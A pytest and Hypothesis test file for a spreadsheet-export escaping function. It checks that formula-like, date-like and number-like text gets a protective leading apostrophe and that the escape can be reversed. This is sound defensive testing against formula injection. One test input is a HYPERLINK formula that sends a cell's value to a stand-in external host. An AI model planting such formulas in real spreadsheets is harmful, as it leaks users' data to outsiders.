from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appendix_parser.exporters.texts.spreadsheet import escape, unescape
from tests.strategies import texts

FORMULAS = (
    "=1+1",
    "+44 20 7946 0000",
    "-1",
    "- item",
    "@SUM(A1)",
    "  =1+1",
    "\n=1+1",
    "\t",
    "\tx",
    "\rx",
    "\x00=1",
    "\u200b=1",
    "\ufeff=1",
    "\xa0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "﹣1",
    "−1",
    "--",
    '=HYPERLINK("http://host.example/?"&A1)',
)
CONVERTED = (
    "2/3",
    "2 / 3",
    "2-3",
    "２／３",
    " 2/3 ",
    "2.5",
    "1.1",
    "1.10",
    ".5",
    "007",
    "00",
    "123456789012",
    "1,000",
    "1 000",
    "65%",
    "£5",
    "(5)",
    "5-",
    "1e5",
    "1E+5",
    "2011/12",
    "2011-12",
    "2022/2023",
    "12:30",
    "3 pm",
    "3 a",
    "4am",
    "Nov 2021",
    "SEPT2",
    "2may",
    "21 September 2021",
    "Mon 3 May",
    "2022-05-03T12:00:00Z",
    "TRUE",
    "false",
    "#N/A",
    "#REF!",
    "#NAME?",
)
UNCHANGED = (
    "",
    "3",
    "0",
    "2022",
    "2022/23",
    "2022-23",
    "12345678901",
    "-",
    "=",
    " - ",
    "–",
    "N/A",
    "NA",
    "n/a",
    "TBC",
    "2–3",
    "2½",
    "3*",
    "12a",
    "1.a",
    "#3",
    "A1",
    "CI001",
    "Level 3",
    "3 - Mature",
    "2 to 3",
    "May",
    "March",
    "true to its word",
    "Action: - train the team.",
    "3 suppliers were added",
    "• bullet",
    "“quoted”",
    "a=b",
    "co-design",
)


@pytest.mark.parametrize("text", [*FORMULAS, *CONVERTED])
def test_text_a_spreadsheet_would_change_gets_an_apostrophe(text: str) -> None:
    assert escape(text) == "'" + text


@pytest.mark.parametrize("text", UNCHANGED)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert escape(text) == text


@pytest.mark.parametrize("text", ["'", "''", "'=1+1", "'2/3", "'Mature' was agreed"])
def test_an_apostrophe_at_the_start_is_doubled(text: str) -> None:
    assert escape(text) == "'" + text


NUMBER_LIKE = st.text("0123456789/-., :%()£eEtzap=+", max_size=10)


@given(texts() | NUMBER_LIKE)
def test_the_escape_can_be_undone_exactly(text: str) -> None:
    assert unescape(escape(text)) == text


@given(st.text(" \t\n\r\x00\x1b\xa0\u2003\u200b\ufeff", max_size=3), st.sampled_from("=+-@＝＋－＠"), texts())
def test_no_cell_starts_a_formula_after_invisible_characters(invisible: str, sign: str, after: str) -> None:
    assert escape(f"{invisible}{sign}1{after}").startswith("'")


@given(st.integers(0, 99), st.sampled_from("/-.: "), st.integers(0, 99))
def test_no_pair_of_numbers_can_become_a_date(first: int, sign: str, second: int) -> None:
    assert escape(f"{first}{sign}{second}").startswith("'")
